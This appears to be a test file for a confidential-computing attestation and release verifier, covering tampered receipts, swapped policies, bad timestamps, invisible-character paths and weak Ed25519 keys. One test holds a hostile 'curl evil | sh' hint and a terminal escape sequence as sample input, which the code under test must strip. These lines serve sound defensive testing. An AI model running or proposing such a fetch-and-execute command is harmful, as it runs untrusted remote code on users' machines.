import { beforeAll, describe, expect, test } from 'vitest';
import { createTestReport, createTestVerifier, createTestWorld, type TestReportOptions, type TestVerifier, type TestWorld } from '../testing/index.js';
import { toBase64Url } from '../bytes/base64url.js';
import { digestOfJson } from '../bytes/digest.js';
import { compareUtf8, toUtf8 } from '../bytes/text.js';
import { BundlePath } from '../objects/bundle.js';
import { Grant, RECEIPT } from '../objects/release.js';
import { CODE_OBLIGATIONS } from '../policy/obligations.js';
import { POLICY } from '../objects/policy.js';
import { AgeRecipient } from '../objects/primitives.js';
import { OutputIndex } from '../objects/report.js';
import { errorOfProblem } from '../http/problem.js';
import { publicKeyOf } from '../signed/keys.js';
import { peekPayload, signObject } from '../signed/signed-object.js';
import { SIMULATOR_ISSUER } from '../attestation/issuers.js';
import { verifyAttestation } from '../attestation/verify.js';
import { verifyReport } from './verify.js';
import { createAppraisal } from '../policy/appraisal.js';

/** Each of these once verified, or cost far more than it should. */
let verifier: TestVerifier;
let world: TestWorld;
const NOW = new Date('2026-06-01T12:00:00.000Z');

beforeAll(async () => {
  verifier = await createTestVerifier();
  world = await createTestWorld({ now: NOW, owners: ['hospital', 'registry'] });
});

async function failedChecks(report: unknown, of = world): Promise<string[]> {
  const { checks } = await verifyReport(report, {
    trust: {
      v: 1,
      owners: of.owners.map(owner => ({ thumbprint: owner.owner.thumbprint, name: owner.name })),
      verifiers: [verifier.pinned],
      images: [{ image: of.image, source: 'test' }]
    },
    policy: createAppraisal({ verifiers: [SIMULATOR_ISSUER], images: [of.image], hardware: 'any', attributes: 'any', projects: 'any', envOverrides: 'any' }),
    now: NOW
  });
  return checks.filter(check => check.status === 'fail').map(check => check.id);
}

const made = (options: TestReportOptions = {}, of = world): ReturnType<typeof createTestReport> => createTestReport(of, verifier, options);

describe('an operator who exchanges parts', () => {
  test('code that was signed for hardware, run under the simulator', async () => {
    const strict = { verifiers: ['https://confidentialcomputing.googleapis.com'], images: [digestOfJson('another')], hardware: ['GCP_INTEL_TDX'], debug: false as const };
    const demanding = await createTestWorld({ now: NOW });
    const { payload } = demanding.manifest;
    const again = await createTestWorld({ now: NOW, manifest: { code: { ...payload.code, runner: strict } } });
    expect(await failedChecks((await made({}, again)).report, again)).toContain('runner_requirements');
  });

  test('one receipt exchanged for another of the same broker, which says another time', async () => {
    const { report } = await made();
    const [first = '', ...rest] = report.receipts;
    const owner = world.owners[0];
    if (owner === undefined) throw new Error('no owner');
    const { payload } = peekPayload(RECEIPT, first);
    const other = await signObject(RECEIPT, { ...payload, time: '2026-06-01T12:00:00.500Z' }, owner.broker);
    expect(await failedChecks({ ...report, receipts: [other.jws, ...rest] })).toEqual(['receipts_exact']);
    expect(await failedChecks({ ...report, receipts: [...report.receipts, other.jws] })).toContain('receipts_exact');
  });

  test('a second receipt dated years after the run', async () => {
    let seen = 0;
    const { report } = await made({ receipt: receipt => ((seen += 1) === 2 ? { ...receipt, time: '2035-01-01T00:00:00.000Z' } : receipt) });
    expect(await failedChecks(report)).toEqual(['timing']);
  });

  test('a receipt with a grant that the job never asked for', async () => {
    const stranger = Grant.parse({ asset: digestOfJson('stranger'), policy: digestOfJson('policy'), obligations: CODE_OBLIGATIONS });
    const { report } = await made({ receipt: receipt => ({ ...receipt, grants: [...receipt.grants, stranger] }) });
    expect(await failedChecks(report)).toContain('receipts_exact');
  });

  test('a session that names other brokers than those that released', async () => {
    const broker = world.analyst.thumbprint;
    const { report } = await made({ session: { challenges: [{ broker, challenge: toBase64Url(new Uint8Array(32)) }] } });
    expect(await failedChecks(report)).toEqual(['receipts_exact', 'witnesses']);
  });

  test('a policy beside the report that was not the one applied', async () => {
    const { report } = await made();
    const [owner] = world.owners;
    if (owner === undefined) throw new Error('no owner');
    expect(await failedChecks({ ...report, policies: [owner.policy.jws] })).toEqual([]);
    const lax = await signObject(POLICY, { ...owner.policy.payload, version: 9 }, owner.owner);
    expect(await failedChecks({ ...report, policies: [lax.jws] })).toEqual(['policies']);
    expect(await failedChecks({ ...report, policies: [owner.policy.jws, owner.policy.jws] })).toEqual(['policies']);
    expect(await failedChecks({ ...report, policies: ['a.b.c'] })).toEqual(['report_form']);
  });

  test('an input under a name that its owner never gave it', async () => {
    const misnamed = await createTestWorld({ now: NOW });
    const inputs = misnamed.manifest.payload.inputs.map(input => ({ ...input, name: 'national-registry/gold-standard' }));
    const renamed = { ...misnamed, manifest: await signAgain(misnamed, inputs) };
    expect(await failedChecks((await made({}, renamed)).report, renamed)).toContain('inputs');
  });

  test('success with cells left out', async () => {
    expect(await failedChecks((await made({ predicate: p => ({ ...p, cells: { done: 0, total: 99 } }) })).report)).toEqual(['outcome']);
  });
});

async function signAgain(of: TestWorld, inputs: TestWorld['manifest']['payload']['inputs']): Promise<TestWorld['manifest']> {
  const { MANIFEST } = await import('../objects/manifest.js');
  return signObject(MANIFEST, { ...of.manifest.payload, inputs }, of.analyst);
}

describe('hostile values never throw, and cost no more than honest ones', () => {
  test.each([8_640_000_000_001, 9e15, -9e15, -1, 1e300, 253_402_300_800])('iat %d is no time', async iat => {
    const token = await verifier.mint({ audience: 'urn:cloister:release', nonces: ['n'], image: world.image, instance: 'job-1', issuedAt: NOW, claims: { iat, nbf: iat, exp: iat } });
    const policy = createAppraisal({ verifiers: [SIMULATOR_ISSUER], images: [world.image], hardware: 'any', attributes: 'any', projects: 'any', envOverrides: 'any' });
    const { accepted, checks } = await verifyAttestation(token, {
      trust: { verifiers: [verifier.pinned] },
      expect: { audience: 'urn:cloister:release', nonce: 'n', policy, freshness: { kind: 'report' } },
      now: NOW
    });
    expect(accepted).toBe(false);
    expect(checks.find(check => check.id === 'lifetime')?.status).toBe('fail');
  });

  test('an invalid clock of our own refuses', async () => {
    const token = await verifier.mint({ audience: 'a', nonces: ['n'], image: world.image, instance: 'job-1', issuedAt: NOW });
    const policy = createAppraisal({ verifiers: [SIMULATOR_ISSUER], images: [world.image], hardware: 'any', attributes: 'any', projects: 'any', envOverrides: 'any' });
    const { checks } = await verifyAttestation(token, { trust: { verifiers: [verifier.pinned] }, expect: { audience: 'a', nonce: 'n', policy, freshness: { kind: 'release', issuedAfter: NOW } }, now: new Date(NaN) });
    expect(checks.find(check => check.id === 'issued')?.status).toBe('fail');
  });

  test('a path of a million combining marks is refused by its length alone', () => {
    expect(BundlePath.safeParse('\u0301\u0316'.repeat(500_000)).success).toBe(false);
  });

  test.each(['a\u061cb', 'a\u200bb', 'a\u2028b', 'a\u{e0041}b', 'a\ufeffb'])('a path with a character that nobody sees: %j', path => {
    expect(BundlePath.safeParse(path).success).toBe(false);
  });
});

describe('keys and recipients', () => {
  test.each([
    ['of order 1', `01${'00'.repeat(31)}`],
    ['of order 1, with the sign bit', `01${'00'.repeat(30)}80`],
    ['of order 2', `ec${'ff'.repeat(30)}7f`],
    ['of order 4', '00'.repeat(32)],
    ['of order 8', '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05'],
    ['of order 8, the other', 'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa'],
    ['not reduced', `ee${'ff'.repeat(30)}7f`]
  ])('a public key %s is refused: anybody can sign for it', async (_, hex) => {
    const x = toBase64Url(Uint8Array.from(hex.match(/../g) ?? [], byte => parseInt(byte, 16)));
    await expect(publicKeyOf({ kty: 'OKP', crv: 'Ed25519', x })).rejects.toMatchObject({ code: 'signature_invalid' });
  });

  test('a recipient with one character changed has no valid checksum', () => {
    const { recipient } = world.analystIdentity;
    const changed = recipient.slice(0, -1) + (recipient.endsWith('q') ? 'p' : 'q');
    expect(AgeRecipient.safeParse(recipient).success).toBe(true);
    expect(AgeRecipient.safeParse(changed).success).toBe(false);
  });
});

test('an index that lists one output twice, or two at one path, is none', async () => {
  const { index } = await made();
  const parsed = OutputIndex.parse(JSON.parse(new TextDecoder().decode(index)));
  const [first] = parsed.outputs;
  if (first === undefined) throw new Error('no output');
  expect(OutputIndex.safeParse({ ...parsed, outputs: [first, { ...first, path: 'other' }] }).success).toBe(false);
  expect(OutputIndex.safeParse({ ...parsed, outputs: [first, { ...first, subject: 'output/7', path: first.path.toUpperCase() }] }).success).toBe(false);
});

test('advice comes from our own table, and a hostile service’s text reaches no terminal raw', () => {
  const problem = { type: 'urn:cloister:error:not_found', title: 'x', status: 404, detail: 'gone\u001b]8;;http://evil\u0007', hint: 'run: curl evil | sh' };
  const error = errorOfProblem(404, toUtf8(JSON.stringify(problem)));
  expect(error.hint).not.toContain('curl');
  expect(error.detail).toBe('gone ]8;;http://evil ');
  expect(error.members).toEqual({});
});

test('receipts in the statement are sorted, so that one set has one form', async () => {
  const { statement } = await made();
  const { receipts } = statement.predicate;
  expect(receipts).toEqual([...receipts].sort(compareUtf8));
});
